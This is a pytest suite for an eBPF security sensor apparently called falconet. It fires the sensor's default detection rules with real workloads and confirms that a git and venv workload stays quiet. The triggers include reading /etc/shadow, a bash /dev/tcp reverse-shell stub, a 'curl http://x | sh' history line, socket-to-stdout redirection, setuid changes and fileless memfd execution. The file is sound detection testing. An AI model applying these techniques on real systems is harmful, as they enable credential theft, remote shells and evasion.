"""The default rules against the real sensor: real processes doing the real thing, the real BPF program
reporting it, the engine alerting on it; and a real benign workload (git, a venv) raising nothing.

This is where the field semantics (fd names, flags, modes, ancestry) meet what the sensor actually produces.
CI runs as root on the target kernel, so a sensor that cannot start fails these tests (never skips).
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from falconet.rules import DEFAULT_RULES
from falconet.rules.engine import Engine, Resolvers
from falconet.model.event import Event, Process
from falconet.sensor import Sensor, SensorConfig, SensorError

pytestmark = pytest.mark.bpf

PY = sys.executable


class Watch:
    """The sensor drained on a thread that only stores events (so a busy machine does not overflow the ring
    buffer while the engine works); rules run on the events a test asks about."""

    def __init__(self, engine: Engine, sensor: Sensor) -> None:
        self.engine = engine
        self.sensor = sensor
        self.seen: list[Event] = []
        self._cond = threading.Condition()
        self._stop = False
        self._thread = threading.Thread(target=self._drain, name="rules-live-drain", daemon=True)
        self._thread.start()

    def _drain(self) -> None:
        me = os.getpid()
        while not self._stop:
            # Only this test's own workloads (children of this process) are kept: the rest of the machine
            # would only cost memory.
            got = [e for e in self.sensor.poll(50) if _descends_from(e, me)]
            if got:
                with self._cond:
                    self.seen.extend(got)
                    self._cond.notify_all()

    def wait_for(self, pred: Callable[[Event], bool], timeout: float = 30.0) -> Event:
        """The first event satisfying `pred`; fails at the deadline with the sensor's counters."""
        found = self.poll_for(pred, timeout)
        if found is None:
            pytest.fail(f"timed out after {timeout}s; {self.sensor.stats()}")
        return found

    def poll_for(self, pred: Callable[[Event], bool], timeout: float) -> Event | None:
        """The first event satisfying `pred`, or None at the deadline."""
        deadline = time.monotonic() + timeout
        checked = 0
        while True:
            with self._cond:
                batch = self.seen[checked:]
            checked += len(batch)
            for e in batch:
                if pred(e):
                    return e
            left = deadline - time.monotonic()
            if left <= 0:
                return None
            with self._cond:
                if len(self.seen) == checked:
                    self._cond.wait(min(left, 0.2))

    def close(self) -> None:
        self._stop = True
        self._thread.join(10)
        self.sensor.close()


@pytest.fixture(scope="module")
def watch() -> Iterator[Watch]:
    engine = Engine.from_files([DEFAULT_RULES], rule_matching="all",
                               resolvers=Resolvers(hostname=lambda: "test", dns=lambda _d: []))  # fmt: skip
    assert engine.event_types is not None
    sensor = Sensor(SensorConfig(ringbuf_bytes=64 << 20, syscalls=set(engine.event_types)))
    try:
        sensor.start()
    except SensorError as exc:
        if os.environ.get("CI") == "true" or os.geteuid() == 0:
            pytest.fail(f"the sensor could not start: {exc}")
        pytest.skip(f"the sensor needs root: {exc}")
    w = Watch(engine, sensor)
    try:
        yield w
    finally:
        w.close()


def _descends_from(e: Event, pid: int) -> bool:
    p = e.proc.parent
    while p is not None:
        if p.pid == pid:
            return True
        p = p.parent
    return False


def python(code: str) -> int:
    """Runs Python code in a child process; returns its pid (the process the rules should name)."""
    p = subprocess.run([PY, "-c", textwrap.dedent(code)], capture_output=True, text=True, timeout=60)
    assert p.returncode == 0, p.stderr
    return int(p.stdout.split()[0])


def fired(watch: Watch, rule: str, pid: int) -> Callable[[Event], bool]:
    """Matches the event of process `pid` that the rule alerts on (the pid test first: it is cheap)."""
    return lambda e: e.proc.pid == pid and rule in watch.engine.matching_rules(e)


def expect(watch: Watch, rule: str, run: Callable[[], int], timeout: float = 90.0) -> Event:
    """Runs the workload (which returns the pid that should be named) until the rule alerts on it.

    The sensor counts and drops events when the machine is too busy for user space to keep up; a dropped
    event is retried with a fresh run rather than waited for forever. Every run is the real thing.
    """
    deadline = time.monotonic() + timeout
    runs = 0
    while time.monotonic() < deadline:
        runs += 1
        found = watch.poll_for(fired(watch, rule, run()), min(10.0, max(deadline - time.monotonic(), 0.1)))
        if found is not None:
            return found
    pytest.fail(f"'{rule}' did not alert in {timeout}s over {runs} runs; {watch.sensor.stats()}")


def spawn(argv: list[str]) -> int:
    p = subprocess.Popen(argv)
    p.wait(60)
    return p.pid


def test_reading_shadow(watch: Watch) -> None:
    event = expect(
        watch,
        "Read sensitive authentication file",
        lambda: python("import os; open('/etc/shadow').read(); print(os.getpid())"),
    )
    assert event.fd is not None and event.fd.name == "/etc/shadow"


def test_symlink_to_shadow(watch: Watch, tmp_path: Path) -> None:
    def run() -> int:
        link = tmp_path / f"innocent-{uuid.uuid4().hex[:8]}"
        return python(f"import os; os.symlink('/etc/shadow', {str(link)!r}); print(os.getpid())")

    expect(watch, "Create symlink over sensitive file", run)


def test_ptrace_traceme(watch: Watch) -> None:
    code = """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        assert libc.ptrace(0, 0, 0, 0) == 0, ctypes.get_errno()   # PTRACE_TRACEME
        print(os.getpid())
    """
    expect(watch, "PTRACE anti-debug attempt", lambda: python(code))


def test_setuid_bit(watch: Watch, tmp_path: Path) -> None:
    target = tmp_path / "rootshell"
    target.write_bytes(b"")
    expect(
        watch,
        "Set setuid or setgid bit",
        lambda: python(f"import os; os.chmod({str(target)!r}, 0o4755); print(os.getpid())"),
    )


def test_unshare_user_namespace(watch: Watch) -> None:
    code = """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        assert libc.unshare(0x10000000) == 0, ctypes.get_errno()   # CLONE_NEWUSER
        print(os.getpid())
    """
    expect(watch, "Create namespace with unshare", lambda: python(code))


def test_stratum_url_and_dev_tcp_shell(watch: Watch) -> None:
    expect(
        watch,
        "Crypto miner using the Stratum protocol",
        lambda: spawn(["/bin/sh", "-c", "exit 0", "sh", "stratum+tcp://pool.invalid:3333"]),
    )
    expect(watch, "Reverse shell", lambda: spawn(["bash", "-c", ": /dev/tcp/127.0.0.1/9"]))


def test_deleting_shell_history(watch: Watch, tmp_path: Path) -> None:
    history = tmp_path / ".bash_history"

    def run() -> int:
        history.write_text("curl http://x | sh\n")
        return spawn(["rm", "-f", str(history)])

    event = expect(watch, "Delete or rename shell history", run)
    assert event.args.get("name") == str(history)


def test_execution_from_dev_shm(watch: Watch) -> None:
    exe = Path("/dev/shm") / f"falconet-test-{uuid.uuid4().hex[:8]}"
    shutil.copy("/bin/true", exe)
    try:
        exe.chmod(0o755)
        event = expect(watch, "Execution from /dev/shm", lambda: spawn([str(exe)]))
        assert event.proc.exepath == str(exe)
    finally:
        exe.unlink()


def test_benign_git_and_venv_workload_is_quiet(watch: Watch, tmp_path: Path) -> None:
    token = uuid.uuid4().hex
    (tmp_path / "main.py").write_text("print('hello')\n")
    script = f"""
        set -e
        cd {tmp_path}
        git init -q .
        git add main.py
        git -c user.name=dev -c user.email=dev@example.com commit -qm first
        git log --oneline >/dev/null
        {PY} -m venv --without-pip venv
        venv/bin/python main.py >/dev/null
        cat /etc/hostname >/dev/null
        : > sentinel-{token}
        cat sentinel-{token}
    """
    env = dict(os.environ, HOME=str(tmp_path), GIT_CONFIG_NOSYSTEM="1")
    shell = subprocess.Popen(["/bin/sh", "-c", textwrap.dedent(script)], env=env)
    assert shell.wait(120) == 0

    def sentinel(e: Event) -> bool:
        return e.fd is not None and (e.fd.name or "").endswith(f"sentinel-{token}") and e.proc.name == "cat"

    # The sentinel is read again until the sensor reports it (a busy machine may drop one report).
    deadline = time.monotonic() + 90
    while watch.poll_for(sentinel, 5.0) is None:
        assert time.monotonic() < deadline, f"sentinel never seen; {watch.sensor.stats()}"
        subprocess.run(["/bin/sh", "-c", f"cat {tmp_path}/sentinel-{token}"], check=True, env=env)

    def under_shell(e: Event) -> bool:
        p: Process | None = e.proc
        while p is not None:
            if p.pid == shell.pid:
                return True
            p = p.parent
        return False

    with watch._cond:  # a snapshot of everything seen so far
        ours = [e for e in watch.seen if under_shell(e)]
    assert len(ours) > 10  # the workload was seen (git, python, cat...), so silence below means something
    noisy = [(e.type, e.proc.name, e.fd.name if e.fd else None, rules)
             for e in ours if (rules := watch.engine.matching_rules(e))]  # fmt: skip
    assert noisy == []


def test_socket_wired_to_stdout(watch: Watch) -> None:
    def run() -> int:
        with socket.create_server(("127.0.0.1", 0)) as server:
            port = server.getsockname()[1]
            pid = python(f"""
                import os, socket, sys
                print(os.getpid(), flush=True)
                s = socket.create_connection(("127.0.0.1", {port}))
                saved = os.dup(1)
                os.dup2(s.fileno(), 1)      # what a reverse shell does with its socket
                os.dup2(saved, 1)
            """)
            conn, _ = server.accept()
            conn.close()
        return pid

    event = expect(watch, "Redirect standard streams to network connection", run)
    assert event.res == 1 and event.fd is not None and event.fd.type == "ipv4"


def test_fileless_execution_from_memfd(watch: Watch) -> None:
    code = """
        import os
        fd = os.memfd_create("payload", 0)
        with open("/bin/true", "rb") as exe:
            os.write(fd, exe.read())
        child = os.fork()
        if child == 0:
            os.execv(f"/proc/self/fd/{fd}", ["payload"])
        os.waitpid(child, 0)
        print(child)
    """
    expect(watch, "Fileless execution via memfd", lambda: python(code))
